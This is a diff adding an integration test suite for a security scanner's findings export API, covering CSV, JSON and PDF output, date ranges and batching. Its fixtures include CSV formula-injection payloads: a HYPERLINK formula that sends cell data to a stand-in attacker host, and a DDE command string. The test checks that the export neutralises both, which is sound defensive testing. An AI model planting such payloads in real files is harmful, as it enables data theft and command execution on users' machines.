@@ -1,0 +1,283 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Knex } from 'knex';
+import { csvRecords } from '../../../server/findings/export/csv.ts';
+import { findingDetail } from '../../../server/findings/export/json.ts';
+import { csvNeedsOnlyListFields, exportFindings } from '../../../server/findings/export-source.ts';
+import type { FindingSort, SortOrder } from '../../../server/findings/filters.ts';
+import { listFindings } from '../../../server/findings/listing.ts';
+import { startTestApp, type TestApp } from '../../helpers/app.ts';
+import { testEngine } from '../../helpers/database.ts';
+import { createTenant } from '../../helpers/tenants.ts';
+import { detection, runScan } from '../../helpers/scans.ts';
+
+const DAY = 86_400_000;
+
+/** Splits RFC 4180 CSV into records of fields (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let field = '';
+  let record: string[] = [];
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      record.push(field);
+      field = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      record.push(field);
+      records.push(record);
+      record = [];
+      field = '';
+      i++;
+    } else field += ch;
+  }
+  return records;
+}
+
+describe(`findings export (${testEngine})`, () => {
+  let app: TestApp;
+  let db: Knex;
+  let orgId: string;
+  let token: string;
+
+  beforeAll(async () => {
+    app = await startTestApp();
+    db = app.services.db;
+    const tenant = await createTenant(app, 'professional');
+    orgId = tenant.orgId;
+    token = await tenant.login();
+    await runScan(
+      db,
+      orgId,
+      [
+        detection({
+          severity: 'critical',
+          title: '=HYPERLINK("https://attacker.example/?"&A1,"click")',
+          description: "+cmd|' /C calc'!A0",
+          cve_ids: ['CVE-2021-44228'],
+          frameworks: [
+            { name: 'soc2', controls: ['ctrl_soc2_cc7_1'] },
+            { name: 'pci-dss', controls: ['ctrl_pci_dss_6_3_3'] },
+          ],
+        }),
+        detection({ severity: 'high', title: '@SUM(1+1)', tool: '-tool' }),
+        detection({ severity: 'low', title: 'Plain, with "quotes"\nand a line break' }),
+      ],
+      { now: new Date(Date.now() - 10 * DAY) },
+    );
+    await runScan(db, orgId, [
+      ...Array.from({ length: 6 }, () => detection({ severity: 'medium' })),
+      detection({ severity: 'info', cvss_vector: null }),
+    ]);
+  });
+  afterAll(async () => {
+    await app?.close();
+  });
+
+  const download = (query: string) =>
+    app.request(`/api/v1/findings/export?${query}`, { headers: { authorization: `Bearer ${token}` } });
+
+  it('exports CSV as an attachment, list-view columns plus description, safe against formula injection', async () => {
+    const res = await download('format=csv');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(res.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="scanward-findings-\d{4}-\d{2}-\d{2}\.csv"$/,
+    );
+    const [header, ...records] = parseCsv(await res.text());
+    expect(header).toEqual([
+      'id',
+      'title',
+      'severity',
+      'status',
+      'cvss_score',
+      'epss_score',
+      'target',
+      'affected_component',
+      'tool',
+      'template_id',
+      'cve_ids',
+      'cwe_ids',
+      'scan_id',
+      'detected_at',
+      'frameworks',
+      'description',
+    ]);
+    expect(records).toHaveLength(10);
+    const column = (name: string) => header!.indexOf(name);
+    const critical = records.find((r) => r[column('severity')] === 'critical')!;
+    expect(critical[column('title')]).toBe('\'=HYPERLINK("https://attacker.example/?"&A1,"click")');
+    expect(critical[column('description')]).toBe("'+cmd|' /C calc'!A0");
+    expect(critical[column('frameworks')]).toBe('soc2;pci-dss');
+    const high = records.find((r) => r[column('severity')] === 'high')!;
+    expect(high[column('title')]).toBe("'@SUM(1+1)");
+    expect(high[column('tool')]).toBe("'-tool");
+    const low = records.find((r) => r[column('severity')] === 'low')!;
+    expect(low[column('title')]).toBe('Plain, with "quotes"\nand a line break');
+    // No cell a spreadsheet would evaluate.
+    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('exports JSON as an array of finding details, applying the list filters and ignoring pagination', async () => {
+    const res = await download('format=json&severity=medium&page=2&per_page=1');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="scanward-findings-.*\.json"$/,
+    );
+    const items = (await res.json()) as Record<string, unknown>[];
+    expect(items).toHaveLength(6);
+    expect(items[0]).toMatchObject({
+      severity: 'medium',
+      remediation: { summary: 'Fix it.' },
+      evidence: { request: 'GET / HTTP/1.1', screenshot_url: null },
+      frameworks: [{ name: 'soc2', controls: ['ctrl_soc2_cc7_1'] }],
+    });
+    expect(items[0]).toHaveProperty('cvss_vector');
+  });
+
+  it('limits the export to detections in [from_date, to_date)', async () => {
+    const day = (days: number) => new Date(Date.now() - days * DAY).toISOString().slice(0, 10);
+    const old = (await (await download(`format=json&to_date=${day(5)}`)).json()) as unknown[];
+    expect(old).toHaveLength(3);
+    const recent = (await (await download(`format=json&from_date=${day(5)}`)).json()) as unknown[];
+    expect(recent).toHaveLength(7);
+  });
+
+  it('exports a PDF report', async () => {
+    const res = await download('format=pdf');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('application/pdf');
+    expect(res.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="scanward-findings-.*\.pdf"$/,
+    );
+    const bytes = Buffer.from(await res.arrayBuffer());
+    expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
+    expect(bytes.subarray(-6).toString('latin1')).toMatch(/%%EOF/);
+  });
+
+  it('exports CSV when no format is given and answers 422 for an unknown format or an empty range', async () => {
+    const plain = await download('');
+    expect(plain.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    await plain.arrayBuffer();
+    const bad = await download('format=xlsx');
+    expect(bad.status).toBe(422);
+    expect(await bad.json()).toMatchObject({ error_code: 'VALIDATION_ERROR', field: 'format' });
+    const empty = await download('from_date=2026-02-01&to_date=2026-02-01');
+    expect(empty.status).toBe(422);
+    expect(await empty.json()).toMatchObject({ error_code: 'VALIDATION_ERROR', field: 'to_date' });
+  });
+
+  it('walks the findings in keyset batches in exactly the list order, for every sort', async () => {
+    for (const sort of ['severity', 'created_at', 'cvss_score'] as FindingSort[]) {
+      for (const order of ['asc', 'desc'] as SortOrder[]) {
+        const listed = await listFindings(db, orgId, { page: 1, perPage: 100, sort, order });
+        const exported: string[] = [];
+        for await (const f of exportFindings(db, orgId, { sort, order }, { batchSize: 2 }))
+          exported.push(f.id);
+        expect(exported).toEqual(listed.items.map((i) => i.id));
+        expect(exported).toHaveLength(10);
+      }
+    }
+  });
+
+  it('exports in JSON exactly the detail view, comments, history and triage fields included', async () => {
+    const other = await createTenant(app, 'professional');
+    const auth = { authorization: `Bearer ${await other.bearer()}`, 'content-type': 'application/json' };
+    await runScan(db, other.orgId, [
+      detection({ severity: 'high' }),
+      detection({ severity: 'medium' }),
+      detection({ severity: 'low' }),
+    ]);
+    const [triaged, commented] = (await listFindings(db, other.orgId, { page: 1, perPage: 10 })).items;
+    const call = async (path: string, method: string, json: unknown) => {
+      const res = await app.request(path, { method, headers: auth, body: JSON.stringify(json) });
+      expect(res.status).toBeLessThan(300);
+    };
+    const findingPath = (id: string) => `/api/v1/findings/${id}`;
+    await call(`${findingPath(triaged!.id)}/comments`, 'POST', { text: 'Seen on staging too.' });
+    await call(findingPath(triaged!.id), 'PATCH', {
+      status: 'in_progress',
+      assignee: other.admin.email,
+      priority: 'p2',
+      due_date: '2026-03-01T00:00:00.000Z',
+      notes: 'Patch on Friday.',
+    });
+    await call(`${findingPath(triaged!.id)}/comments`, 'POST', { text: 'Patched, re-scan pending.' });
+    await call(findingPath(triaged!.id), 'PATCH', { status: 'resolved' });
+    await call(`${findingPath(commented!.id)}/comments`, 'POST', { text: 'Owner asked.' });
+
+    const threadQueries: string[] = [];
+    const onQuery = (q: { sql: string }) => {
+      if (/finding_(comments|history)/.test(q.sql)) threadQueries.push(q.sql);
+    };
+    db.on('query', onQuery);
+    try {
+      const exported = async (format: string) => {
+        const res = await app.request(`/api/v1/findings/export?format=${format}`, { headers: auth });
+        expect(res.status).toBe(200);
+        return res;
+      };
+      await (await exported('csv')).arrayBuffer();
+      await (await exported('pdf')).arrayBuffer();
+      expect(threadQueries).toEqual([]); // only the JSON export reads comments and history
+
+      const items = (await (await exported('json')).json()) as Record<string, unknown>[];
+      expect(threadQueries).toHaveLength(2); // one batch: one query for comments, one for history
+      expect(items).toHaveLength(3);
+      for (const item of items) {
+        const res = await app.request(findingPath(item.id as string), { headers: auth });
+        const detail = (await res.json()) as Record<string, unknown>;
+        expect(item).toEqual(detail);
+        expect(Object.keys(item)).toEqual(Object.keys(detail));
+      }
+      const triagedItem = items.find((i) => i.id === triaged!.id)!;
+      expect(triagedItem).toMatchObject({
+        status: 'resolved',
+        assignee: other.admin.email,
+        priority: 'p2',
+        due_date: '2026-03-01T00:00:00.000Z',
+        notes: 'Patch on Friday.',
+        comments: [{ text: 'Seen on staging too.' }, { text: 'Patched, re-scan pending.' }],
+        history: [
+          { from: null, to: 'open', user: 'system' },
+          { from: 'open', to: 'in_progress', user: other.admin.email },
+          { from: 'in_progress', to: 'resolved', user: other.admin.email },
+        ],
+      });
+      expect(items.find((i) => i.id === commented!.id)).toMatchObject({
+        comments: [{ text: 'Owner asked.' }],
+        history: [{ from: null, to: 'open', user: 'system' }],
+      });
+
+      // Across batches, each batch's comments and history reach their own findings.
+      threadQueries.length = 0;
+      const batched: Record<string, unknown>[] = [];
+      for await (const f of exportFindings(db, other.orgId, {}, { batchSize: 2, fullDetail: true }))
+        batched.push(JSON.parse(JSON.stringify(findingDetail(f))) as Record<string, unknown>);
+      expect(batched).toEqual(items);
+      expect(threadQueries).toHaveLength(4);
+    } finally {
+      db.off('query', onQuery);
+    }
+  });
+
+  it('writes the same CSV from the light list-field rows as from full rows', async () => {
+    expect(csvNeedsOnlyListFields).toBe(true);
+    const csv = async (fields: 'list' | 'detail') => {
+      let text = '';
+      for await (const record of csvRecords(exportFindings(db, orgId, {}, { fields, batchSize: 3 })))
+        text += record;
+      return text;
+    };
+    const light = await csv('list');
+    expect(light).toBe(await csv('detail'));
+    expect(light.split('\r\n').length).toBeGreaterThan(10);
+  });
+});
